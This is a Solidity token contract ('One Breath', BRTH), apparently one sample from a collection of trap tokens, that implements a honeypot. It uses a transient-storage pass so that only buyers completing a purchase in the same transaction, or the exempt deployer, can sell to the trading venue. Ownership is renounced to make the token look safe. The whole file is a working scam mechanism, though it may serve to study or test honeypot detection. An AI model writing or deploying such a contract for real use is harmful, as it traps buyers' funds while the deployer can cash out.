// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import "../base/TrapErc20V8.sol";

/// A purchase leaves a pass that lasts as long as the transaction; a sale needs one.
contract TransientPass is TrapErc20V8 {
    address private immutable boss = msg.sender;
    address private venue;
    bool private transient pass;

    constructor() TrapErc20V8("One Breath", "BRTH", 8_888_888 ether) {}

    function setVenue(address venue_) external onlyOwner {
        venue = venue_;
        renounceOwnership();
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == venue) pass = true;
        else if (to == venue && from != boss) require(pass, "K");
        super._transfer(from, to, value);
    }
}
